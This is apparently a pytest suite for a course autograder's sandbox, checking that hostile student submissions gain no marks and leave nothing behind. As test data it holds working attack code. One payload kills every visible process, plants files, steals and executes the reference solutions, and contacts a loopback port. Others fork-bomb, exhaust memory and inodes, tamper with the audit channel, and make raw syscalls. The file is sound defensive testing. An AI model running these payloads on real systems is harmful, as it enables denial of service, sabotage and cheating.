"""A hostile student in a class: it must not reach the machine, the grader or its classmates.

The attacker's module is a plain wrong ex1 (rnn_cell returns zeros) that, on
import, also:

- detaches a process (double fork + setsid) that tries to SIGSTOP and SIGKILL
  every process it can see, for a minute;
- leaves files in /dev/shm, /tmp and /var/tmp;
- connects to a loopback port the test listens on;
- reads the kit's solutions/ and a second checkout of the kit, and takes their
  code if it can (which would give it full marks).

It is graded alone and in ``batch --jobs 2`` beside a correct, a blank, a plain
wrong and a symlinking classmate. Classmates keep their scores, the attacker
scores no more than the plain wrong one, nothing of it survives or is left
behind, and no loopback connection is made.

The attack would stop and kill the machine's processes where nothing isolates
it, so these tests run where bubblewrap is in force (CI installs it).
"""
import os
import shutil
import socket
import textwrap
import threading
from pathlib import Path

import pytest

from autograder.publish.authoring import render
from autograder.sandbox import isolation

from autograder.grading.course import load_course
from .conftest import KIT, SOLUTIONS, checks_by_name, copy_kit, grade, run_cli, write_submission

EX1_POINTS = load_course().exercises["ex1_myrnn"].max_score   # course.yaml's
from .test_hostile import UNWAITED_CHILDREN

pytestmark = [pytest.mark.skipif(isolation.mode() != "bwrap", reason="needs bubblewrap: the attack is real"),
              pytest.mark.xdist_group("hostile_class")]
SOLUTION = (SOLUTIONS / "ex1_myrnn" / "myrnn.py").read_text()
WRONG = render(SOLUTION, regions={"rnn_cell": "return torch.zeros(x_t.shape[0], W_hh.shape[0], dtype=x_t.dtype)"})
MARK = "hostile31337"
SCRATCH = [Path("/dev/shm"), Path("/tmp"), Path("/var/tmp")]

ATTACK = '''
import ctypes as _ct, os as _os, signal as _sig, socket as _so, time as _t
def _attack(port, secrets):
    for folder in ("/dev/shm", "/tmp", "/var/tmp"):
        try:
            with open(_os.path.join(folder, "MARK-file"), "w") as f:
                f.write("x" * 100_000)
        except OSError:
            pass
    try:
        _so.create_connection(("127.0.0.1", port), timeout=1).sendall(b"MARK")
    except OSError:
        pass
    stolen = None
    for path in secrets:
        try:
            stolen = open(path).read()
            break
        except OSError:
            pass
    mine = {_os.getpid()}
    p = _os.getpid()
    while p > 1:  # spare our own worker, so that this module is graded at all
        try:
            p = int(open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        mine.add(p)
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _ct.CDLL(None).prctl(15, b"MARK")  # PR_SET_NAME: find it afterwards
            end = _t.time() + 60
            while _t.time() < end:
                for entry in _os.listdir("/proc"):
                    if entry.isdigit() and int(entry) not in mine and int(entry) != _os.getpid():
                        for s in (_sig.SIGSTOP, _sig.SIGKILL):
                            try:
                                _os.kill(int(entry), s)
                            except OSError:
                                pass
                _t.sleep(0.05)
            _os._exit(0)
        _os._exit(0)
    _os.wait()
    return stolen
_STOLEN = _attack(PORT, SECRETS)
if _STOLEN:  # take the reference's code: full marks, if the sandbox let us read it
    exec(_STOLEN)
'''.replace("MARK", MARK)


def leftovers() -> list[str]:
    found = [str(f / f"{MARK}-file") for f in SCRATCH if (f / f"{MARK}-file").exists()]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if Path(f"/proc/{pid}/comm").read_text().strip() == MARK:
                found.append(f"process {pid}")
        except OSError:
            pass
    return found


@pytest.fixture
def listener():
    """A loopback port of the grader's machine; records any connection made to it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    accepted, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                accepted.append(server.accept()[0].recv(100))
            except OSError:
                continue

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    stop.set()
    thread.join()
    server.close()


@pytest.fixture
def second_checkout(tmp_path_factory):
    """Another copy of the kit with solutions/, readable by everyone, elsewhere on the machine."""
    other = tmp_path_factory.mktemp("other-checkout")
    shutil.copytree(SOLUTIONS / "ex1_myrnn", other / "solutions" / "ex1_myrnn")
    for p in [other, *other.rglob("*")]:
        os.chmod(p, 0o755 if p.is_dir() else 0o644)
    return other / "solutions" / "ex1_myrnn" / "myrnn.py"


def attacker_source(port: int, secrets: list[Path]) -> str:
    attack = ATTACK.replace("PORT", str(port)).replace("SECRETS", repr([str(s) for s in secrets]))
    return WRONG.replace("from torch import nn\n", "from torch import nn\n" + attack, 1)


def test_an_attacker_graded_alone_gains_nothing_and_leaves_nothing(tmp_path, listener, second_checkout, fast_course):
    port, accepted = listener
    secrets = [SOLUTIONS / "ex1_myrnn" / "myrnn.py", second_checkout]
    checks = ["rnn_cell_values", "matches_nn_rnn", "gradients"]
    wrong = grade(write_submission(tmp_path / "wrong", "ex1_myrnn", {"myrnn.py": WRONG}),
                  exercise="ex1_myrnn", checks=checks, course=fast_course)
    attacker = grade(write_submission(tmp_path / "attacker", "ex1_myrnn",
                                      {"myrnn.py": attacker_source(port, secrets)}),
                     exercise="ex1_myrnn", checks=checks, course=fast_course)
    assert attacker["score"] <= wrong["score"]
    # Its prctl through ctypes is evidence of its own: the whole exercise fails, marked for review
    assert "ctypes.dlopen" in next(e for e in attacker["exercises"] if e["id"] == "ex1_myrnn")["tampering"]
    assert accepted == [], "the attacker reached the grader's loopback"
    assert leftovers() == []


def test_a_class_keeps_its_grades_beside_an_attacker(tmp_path, listener, second_checkout, fast_course):
    port, accepted = listener
    subs, out = tmp_path / "class", tmp_path / "out"
    write_submission(subs / "amy_correct", "ex1_myrnn", {"myrnn.py": SOLUTION})
    write_submission(subs / "bob_blank", "ex1_myrnn",
                     {"myrnn.py": (KIT / "exercises" / "ex1_myrnn" / "myrnn.py").read_text()})
    write_submission(subs / "cat_wrong", "ex1_myrnn", {"myrnn.py": WRONG})
    write_submission(subs / "dan_attacker", "ex1_myrnn",
                     {"myrnn.py": attacker_source(port, [SOLUTIONS / "ex1_myrnn" / "myrnn.py", second_checkout])})
    (subs / "eve_link" / "ex1_myrnn").mkdir(parents=True)
    (subs / "eve_link" / "ex1_myrnn" / "myrnn.py").symlink_to(SOLUTIONS / "ex1_myrnn" / "myrnn.py")

    proc = run_cli("--course", fast_course, "batch", subs, "--out", out, "--exercise", "ex1_myrnn",
                   "--jobs", "2", "--quiet", timeout=900)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    rows = {line.split(",")[0]: line.split(",") for line in (out / "gradebook.csv").read_text().splitlines()[1:]}
    total = {s: float(r[-3]) for s, r in rows.items()}
    assert total["amy_correct"] == EX1_POINTS and total["bob_blank"] == 0
    assert total["dan_attacker"] <= total["cat_wrong"] < 30
    assert total["eve_link"] == 0 and "symbolic link" in (out / "reports" / "eve_link.html").read_text()
    assert rows["dan_attacker"][-1] == "flagged", rows   # ctypes: tampering, for the instructor to review
    assert all(r[-1] == "graded" for s, r in rows.items() if s != "dan_attacker"), rows
    blank = (out / "reports" / "bob_blank.html").read_text()
    assert "not implemented yet" in blank and "killed" not in blank
    assert accepted == [], "the attacker reached the grader's loopback"
    assert leftovers() == []


NON_ROOT = """set -e
mkdir -p "$STASH" && mount --bind "$PYROOT" "$STASH"
mount -t tmpfs -o mode=755 tmpfs "$CLOSED" && mkdir -p "$PYROOT" && mount --bind "$STASH" "$PYROOT"
exec $AS env HOME="$WORK" "$PYTHON" -m autograder grade "$SUB" \
    --exercise ex1_myrnn --check rnn_cell_values --check matches_nn_rnn --json "$WORK/result.json"
"""
SETTINGS = {
    # An instructor without root: bubblewrap in a user namespace.
    "not_root": ("setpriv --reuid=4242 --regid=4242 --clear-groups", {}, "isolation: bubblewrap"),
    # Root where no namespace can be made (a hosted container such as Gradescope's): uids and file modes only.
    "root_without_namespaces": ("", {"AUTOGRADER_ISOLATION": "user"}, "isolation: a uid per worker (no bubblewrap"),
}
READER = """
def rnn_cell(x_t, h_prev, W_xh, W_hh, b):
    try:
        leaked = open(SECRET).read()
    except OSError:
        raise RuntimeError("BLOCKED")
    raise RuntimeError("LEAKED " + leaked[:40])
"""
FORKER = """
def rnn_cell(x_t, h_prev, W_xh, W_hh, b):
    import threading, time
    forked = 0
    # Threads count as processes (RLIMIT_NPROC, pids.max) and are small: the memory watchdog would stop forked
    # copies of Python first, and the seccomp filter refuses to start a program.
    for _ in range(300):
        try:
            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        except RuntimeError:
            break
        forked += 1
    raise RuntimeError(f"FORKED {forked}")
"""
# The seccomp filter holds in these modes too: no second program, no channel replaced.
EXECER = """
def rnn_cell(x_t, h_prev, W_xh, W_hh, b):
    import subprocess, sys
    subprocess.run([sys.executable, "-c", "pass"], check=True)
    raise RuntimeError("STARTED a second Python")
"""
# Memory in no resident set, where (not root) no cgroup counts it: the watchdog reads the worker's memfds itself.
HOARDER = """
def rnn_cell(x_t, h_prev, W_xh, W_hh, b):
    import os, resource, time
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    hoard = []
    for _ in range(1800):                     # each below the output limit, 2.1 GB together, in memory only
        hoard.append(os.memfd_create("hoard"))
        os.write(hoard[-1], bytes(1200 << 10))
    time.sleep(60)
    raise RuntimeError("HELD 2 GB")
"""
# Inodes in the private /tmp: kernel memory in no resident set, counted by the watchdog from outside.
INODES = """
def rnn_cell(x_t, h_prev, W_xh, W_hh, b):
    import os, time
    os.makedirs("/tmp/inodes", exist_ok=True)
    for i in range(2_300_000):                # empty files, 1 KiB of kernel memory each: 2.2 GB
        os.close(os.open(f"/tmp/inodes/{i}", os.O_CREAT | os.O_WRONLY))
    time.sleep(60)
    raise RuntimeError("HELD 2 GB in inodes")
"""
# Children reaped by the kernel (SIGCHLD ignored), where no cgroup counts their CPU (the kit copy has the cgroup's
# count switched off): the seccomp filter keeps SIGCHLD's default, so their time reaches the worker's.
UNWAITED = "\ndef rnn_cell(x_t, h_prev, W_xh, W_hh, b):\n" + textwrap.indent(UNWAITED_CHILDREN, "    ")
CHANNEL_REPLACER = """
def rnn_cell(x_t, h_prev, W_xh, W_hh, b):
    import os, sys
    os.dup2(os.open(os.devnull, os.O_WRONLY), int(sys.argv[7]))
    raise RuntimeError("REPLACED the audit channel")
"""

# Round three (issue 38), as an ordinary user and as root without namespaces: the audit channel's records shifted,
# the student's failure passed off as the grader's, native code through cffi, memory no counter sees.
MISALIGNER = """
def rnn_cell(x_t, h_prev, W_xh, W_hh, b):
    import gc, os, sys
    os.write(int(sys.argv[7]), b"xx")
    gc.get_objects()
    raise RuntimeError("MISALIGNED")
"""
IMPERSONATOR = """
import sys as _sys
exec(compile("def rnn_cell(x_t, h_prev, W_xh, W_hh, b):\\n    return [][1]\\n",
             _sys.modules["probes"].__file__, "exec"), globals())
"""
CFFI_USER = """
def rnn_cell(x_t, h_prev, W_xh, W_hh, b):
    import cffi
    ffi = cffi.FFI()
    ffi.cdef("long syscall(long n, ...);")
    raise RuntimeError(f"CALLED {ffi.dlopen(None).syscall(39)}")
"""
SECRET_HOARDER = """
def rnn_cell(x_t, h_prev, W_xh, W_hh, b):
    import ctypes, mmap, os
    fd = ctypes.CDLL(None, use_errno=True).syscall(447, 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "memfd_secret refused")
    os.ftruncate(fd, 2600 << 20)
    held = mmap.mmap(fd, 2600 << 20)
    for i in range(0, 2600 << 20, 4096):
        held[i] = 1
    raise RuntimeError("HELD 2.6 GB")
"""
ROUND_THREE = {"misaligner": MISALIGNER, "impersonator": IMPERSONATOR, "cffi_user": CFFI_USER,
               "secret_hoarder": SECRET_HOARDER}


def _count_cpu_without_cgroups(kit: Path) -> None:
    """The kit copy counts no cgroup CPU (as a grader without root has none) and gives rnn_cell_values 3 CPU s,
    with 6 x 3 + 5 s of real time: a loaded machine's children still pass 3 CPU s in that."""
    import yaml

    cgroups = kit / "autograder" / "sandbox" / "cgroups.py"
    head = "    def cpu_seconds(self) -> float | None:\n"
    assert head in cgroups.read_text()
    cgroups.write_text(cgroups.read_text().replace(head, head + "        return None\n", 1))
    data = yaml.safe_load((kit / "course.yaml").read_text())
    data["defaults"].update(wall_factor=6, wall_slack=5)
    data["exercises"]["ex1_myrnn"]["checks"]["rnn_cell_values"]["timeout"] = 3
    data["exercises"]["ex1_myrnn"]["memory_mb"] = 12000  # forked copies count their shared pages each
    (kit / "course.yaml").write_text(yaml.safe_dump(data, sort_keys=False))


@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv") or not shutil.which("unshare"),
                    reason="drops to an ordinary user from root")
# "inodes" fills the worker's private /tmp, which only a grader with namespaces gives it (not_root).
@pytest.mark.parametrize("setting, who", [
    (setting, who) for setting in SETTINGS
    for who in ["reference", "reader", "forker", "execer", "channel_replacer", "hoarder", "inodes", "unwaited",
                *ROUND_THREE]
    if who != "inodes" or setting == "not_root"])
def test_weaker_settings_keep_the_kit_hidden_and_processes_bounded(setting, who, request):
    """The grader run by uid 4242, or by root without namespaces: the kit stays out of the student's sight,
    and a worker's processes are bounded per worker (not per user: the grader's own are not counted).

    This machine's Python lives under /root (0700), so the test first gives the
    workers a way to it: a private mount namespace where /root is an enterable
    tmpfs with only that Python bound back. Everything else is as such a grader
    would have it; the kit's files (solutions/ included) are world-readable.
    """
    import json
    import subprocess
    import sys
    import tempfile

    from autograder.sandbox.isolation import Limits

    as_user, extra_env, says = SETTINGS[setting]
    python_root = Path(sys.base_prefix).resolve()
    closed = next((p for p in python_root.parents if p != Path("/") and not p.stat().st_mode & 0o001), None)
    tmp_path = Path(tempfile.mkdtemp(prefix="weaker-grader-", dir="/tmp"))  # pytest's own is 0700
    request.addfinalizer(lambda: shutil.rmtree(tmp_path, ignore_errors=True))
    kit = copy_kit(tmp_path / "kit")  # the checkout may sit in a folder this user cannot enter
    secret = kit / "solutions" / "ex1_myrnn" / "myrnn.py"
    secret.parent.mkdir(parents=True)
    secret.write_text(SOLUTION)
    body = {"reference": "", "reader": READER.replace("SECRET", repr(str(secret))), "forker": FORKER,
            "execer": EXECER, "channel_replacer": CHANNEL_REPLACER, "hoarder": HOARDER, "inodes": INODES,
            "unwaited": UNWAITED, **ROUND_THREE}[who]
    if who == "unwaited":
        _count_cpu_without_cgroups(kit)
    source = SOLUTION if who == "reference" else SOLUTION.replace("def rnn_cell(", "def _unused(", 1) + body
    work = tmp_path / "work"
    sub = write_submission(work / "sub", "ex1_myrnn", {"myrnn.py": source})
    for p in [tmp_path, *tmp_path.rglob("*")]:
        os.chmod(p, 0o777 if p.is_dir() else 0o644)
    env = {**os.environ, **extra_env, "STASH": str(tmp_path / "stash"), "PYROOT": str(python_root),
           "WORK": str(work), "CLOSED": str(closed or python_root.parent), "PYTHON": sys.executable,
           "SUB": str(sub), "PYTHONPATH": str(kit), "AS": as_user}
    script = NON_ROOT if closed else NON_ROOT.replace('mount -t tmpfs', ': mount -t tmpfs')
    proc = subprocess.run(["unshare", "-m", "sh", "-c", script], cwd=kit, env=env, capture_output=True, text=True,
                          timeout=300)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert says in proc.stderr, proc.stderr
    checks = checks_by_name(json.loads((work / "result.json").read_text()), "ex1_myrnn")
    if who == "reference":
        assert all(t["status"] == "passed" for t in checks.values()), checks
    elif who == "reader":
        cell = checks["rnn_cell_values"]
        assert cell["score"] == 0 and "BLOCKED" in cell["output"], cell
    elif who in ("hoarder", "inodes"):
        cell = checks["rnn_cell_values"]
        assert cell["score"] == 0 and "ran out of memory" in cell["output"], cell
    elif who == "unwaited":
        cell = checks["rnn_cell_values"]
        assert cell["status"] == "timeout" and "s of CPU time" in cell["output"], cell
    elif who == "execer":
        cell = checks["rnn_cell_values"]
        assert cell["score"] == 0 and "start another program" in cell["output"], cell
        assert checks["matches_nn_rnn"]["status"] == "passed"  # a rule broken costs its own check
    elif who in ROUND_THREE:
        # never the grader's failure (grade exited 0 above), never more than the plain wrong submission's score
        ex = next(e for e in json.loads((work / "result.json").read_text())["exercises"] if e["id"] == "ex1_myrnn")
        assert not [t for t in ex["tests"] if t["status"] == "grader_error"], ex
        cell = checks["rnn_cell_values"]
        assert cell["score"] == 0, cell
        if who == "secret_hoarder":  # the kernel refused the memory: nothing was held to be counted
            assert "does not allow" in cell["output"], cell["output"]
        if who == "impersonator":
            assert cell["status"] == "error" and not ex.get("tampering"), ex
            assert checks["matches_nn_rnn"]["status"] == "passed"
        else:  # the channel's framing broken, cffi, ctypes: evidence the grader read from outside
            assert ex.get("tampering") and all(t["score"] == 0 for t in checks.values()), ex
    elif who == "channel_replacer":
        assert "seccomp: on" in proc.stderr, proc.stderr
        ex = next(e for e in json.loads((work / "result.json").read_text())["exercises"] if e["id"] == "ex1_myrnn")
        assert any("seccomp" in e for e in ex.get("tampering", [])), ex
        assert all(t["score"] == 0 for t in checks.values()), checks
    else:
        cell = checks["rnn_cell_values"]
        assert "FORKED " in cell["output"], cell["output"]
        forked = int(cell["output"].split("FORKED ", 1)[1].split()[0].rstrip(".:"))
        assert forked < Limits().processes, cell["output"]
        assert checks["matches_nn_rnn"]["status"] == "passed"  # the next worker starts: nothing was left over
